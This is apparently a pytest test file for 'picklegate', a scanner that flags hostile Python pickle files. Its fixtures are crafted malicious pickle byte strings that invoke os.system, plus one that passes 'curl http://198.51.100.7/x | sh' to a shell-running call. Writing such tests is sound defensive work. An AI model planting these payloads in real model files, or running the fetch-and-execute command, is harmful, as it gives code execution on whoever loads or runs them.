"""What scanning promises of a report, whatever the file."""

from __future__ import annotations

import gc
import hashlib
import io
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

import pytest

from picklegate import (
    BlockedError,
    FileReport,
    Policy,
    PolicyError,
    Verdict,
    containers,
    safe_pickle_load,
    scan_bytes,
    scan_file,
)
from picklegate.judging.feature_table import FEATURES, words
from picklegate.scan import scan_stream

HOSTILE = b"cos\nsystem\n(S'true'\ntR."


def test_a_report_says_what_was_scanned(tmp_path: Path) -> None:
    """Name, size, digest, container, streams, imports and calls of a hostile file."""
    path = tmp_path / "model.bin"
    path.write_bytes(HOSTILE)
    report = scan_file(path)
    assert (report.name, report.size, report.container) == (str(path), len(HOSTILE), "raw")
    assert report.sha256 == hashlib.sha256(HOSTILE).hexdigest()
    assert report.verdict == Verdict.MALICIOUS
    (stream,) = report.streams
    assert stream.decided_by == "execution"
    assert stream.imports == (("os", "system"),)
    (call,) = stream.calls
    assert (call.callee, call.arguments, call.opcode, call.offset) == ("os.system", ("'true'",), "REDUCE", 21)
    assert report.score == stream.score == call.score


@pytest.mark.parametrize(
    ("data", "decided_by", "verdict"),
    [
        (pickle.dumps({"a": [1, 2.5, "x"]}), "inert", Verdict.CLEAN),
        (pickle.dumps(pickle.PickleError("x")), "model", Verdict.CLEAN),
        (HOSTILE, "execution", Verdict.MALICIOUS),
        (b"\x80\x04]\x94(K\x01", "fault", Verdict.UNSCANNABLE),
        (b"\x80\x02\x82\x01.", "rule", Verdict.SUSPICIOUS),
    ],
    ids=["inert", "model", "execution", "fault", "rule"],
)
def test_a_stream_says_what_decided(data: bytes, decided_by: str, verdict: Verdict) -> None:
    """The two proofs, the model and a fault each leave their name."""
    report = scan_bytes(data)
    assert [(stream.decided_by, stream.verdict) for stream in report.streams] == [(decided_by, verdict)]
    assert report.verdict == verdict


def test_a_score_says_what_raised_it() -> None:
    """The features of a scored finding stand in its message and, with their weights, in the JSON form."""
    report = scan_bytes(b"cmy_kit\nrun_shell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
    (finding,) = (found for found in report.reasons if found.code == "call.score")
    assert finding.to_dict()["contributions"] == [list(part) for part in finding.contributions]
    weights = [weight for _, weight in finding.contributions]
    assert weights == sorted(weights, reverse=True)
    assert len(weights) > 1
    assert "a text looks like a command +" in finding.message
    assert all(f"+{weight:.1f}" in finding.message for weight in weights)


def test_each_feature_has_words() -> None:
    """What raised or lowered a score can be said for every feature, whatever its value."""
    assert all(words(feature, 0.0) and words(feature, 1.0) for feature in FEATURES)


def test_a_file_is_as_bad_as_its_worst_stream() -> None:
    """An archive of harmless members and one hostile one."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("m/data.pkl", pickle.dumps([1]))
        archive.writestr("m/notes.txt", HOSTILE)
    report = scan_bytes(packed.getvalue())
    assert report.verdict == Verdict.MALICIOUS
    assert {stream.verdict for stream in report.streams} == {Verdict.CLEAN, Verdict.MALICIOUS}


def test_without_a_digest_nothing_is_hashed() -> None:
    """``digest=False`` leaves sha256 empty."""
    assert scan_stream(io.BytesIO(HOSTILE), name="x", digest=False).sha256 == ""


def test_what_is_no_file_is_an_oserror(tmp_path: Path) -> None:
    """A directory, a FIFO and a missing path are errors with a sentence, not verdicts."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path in (tmp_path, fifo, tmp_path / "missing"):
        with pytest.raises(OSError, match=r"\w+"):
            scan_file(path)


def test_a_verdict_is_no_condition() -> None:
    """Testing a verdict for truth is an error, for what it would mean depends on the policy."""
    with pytest.raises(TypeError, match="compare"):
        bool(Verdict.MALICIOUS)


def test_trust_is_by_name_and_by_digest() -> None:
    """An allowed import is not scored, an allowed digest is not blocked, and nothing else changes."""
    hostile = scan_bytes(HOSTILE)
    assert Policy().blocks(hostile)
    assert not Policy(allow_digests=(hostile.sha256,)).blocks(hostile)
    assert scan_bytes(HOSTILE, policy=Policy(allow_imports=("os.system",))).verdict == Verdict.CLEAN
    assert scan_bytes(HOSTILE, policy=Policy(allow_imports=("os.popen",))).verdict == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "options",
    [
        {"block_from": Verdict.CLEAN},
        {"allow_imports": "os.system"},
        {"allow_imports": [1]},
        {"allow_digests": ("abc",)},
    ],
    ids=["block-nothing", "text", "no-text", "no-digest"],
)
def test_a_wrong_option_is_named(options: dict[str, object]) -> None:
    """The message begins with the option."""
    with pytest.raises(PolicyError, match=next(iter(options))):
        Policy(**options)  # type: ignore[arg-type]


def test_a_blocked_error_carries_its_report() -> None:
    """``BlockedError.report`` is the report."""
    report = FileReport(name="x", container="raw", size=0)
    assert BlockedError(report, "refused").report is report


@pytest.mark.parametrize("data", [b"", b"\x80", b"."], ids=["empty", "one-byte", "stop-only"])
def test_almost_nothing_is_no_crash(data: bytes) -> None:
    """The smallest files have reports."""
    assert scan_bytes(data, name="x.txt").size == len(data)


def test_a_thousand_equal_calls_are_one(tmp_path: Path) -> None:
    """Calls of one shape are listed once, and different arguments are not merged."""
    data = b"\x80\x02]" + b"cdatetime\ndate\nK\x01K\x02K\x03\x87Ra" * 1000 + b"cos\nsystem\nX\x04\0\0\0true\x85Ra."
    report = scan_bytes(data)
    assert [call.callee for call in report.streams[0].calls] == ["datetime.date", "os.system"]


def test_a_list_that_grows_between_two_calls_is_read_again() -> None:
    """The same tuple, by the memo, holds more when it is handed over a second time."""
    first = b"\x80\x02cbuiltins\ntuple\nq\x00(]q\x01K\x01tq\x02\x85R0"
    grown = b"h\x01X\x25\0\0\0__import__('os').system('echo inert')\0"[:-1] + b"a0"
    report = scan_bytes(first + grown + b"cm_x\nrun\nh\x02\x85R.")
    calls = {call.callee: call.arguments for call in report.streams[0].calls}
    assert "__import__" in calls["m_x.run"][0]


def test_nothing_of_a_file_stays_behind(tmp_path: Path) -> None:
    """No cycle keeps a file mapped, or its bytes in memory, until the next collection of garbage."""
    path = tmp_path / "large.pkl"
    path.write_bytes(b"\x80\x02cm_x\nrun\nX\0\0\x10\0" + b"x" * (1 << 20) + b"\x85R]" + b"K\x01a" * 50_000 + b".")
    scan_file(path)
    gc.collect()
    gc.disable()
    try:
        assert scan_file(path).streams
        assert gc.collect() == 0
    finally:
        gc.enable()


def test_equal_ends_do_not_hide_a_middle() -> None:
    """Two long texts that begin and end alike are two calls."""
    ends = "x" * 400
    calls = b"".join(
        b"cm_x\nrun\nX" + len(text).to_bytes(4, "little") + text.encode() + b"\x85R0"
        for text in (ends + "harmless" + ends, ends + "; import os; os.system('echo inert');" + ends)
    )
    report = scan_bytes(b"\x80\x02" + calls + b"N.")
    assert len(report.streams[0].calls) == 2
    assert report.verdict > Verdict.CLEAN


def test_text_in_an_old_joblib_array_is_no_import() -> None:
    """Before arrays were aligned their items began at once: here as an import that no Python can make."""
    wrapper = (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\x08\0\0\0subclasscnumpy\nndarray\nX\x05\0\0\0shapeK\x08\x85"
        b"X\x05\0\0\0orderX\x01\0\0\0CX\x05\0\0\0dtypecnumpy\ndtype\n(X\x02\0\0\0u1K\0K\x01tR"
        b"(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tbX\x0a\0\0\0allow_mmap\x88ub"
    )
    fitted = b"](csklearn.preprocessing.label\nLabelEncoder\n)\x81}(X\x08\0\0\0classes_" + wrapper
    report = scan_bytes(b"\x80\x02" + fitted + b"c\0u\0r\0l\0" + b"ubcm\nC\n)\x81}be.")
    assert [stream.name for stream in report.streams] == ["stream 1"]


def test_a_blocked_file_is_read_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A front door hashes what it blocks, and does not scan it again for the digest."""
    readings = []
    read = containers.read

    def counted(*args: Any, **options: Any) -> Any:
        readings.append(args)
        return read(*args, **options)

    monkeypatch.setattr(containers, "read", counted)
    path = tmp_path / "evil.pkl"
    path.write_bytes(HOSTILE)
    with pytest.raises(BlockedError) as caught:
        safe_pickle_load(path)
    assert caught.value.report.sha256 == hashlib.sha256(HOSTILE).hexdigest()
    assert len(readings) == 1
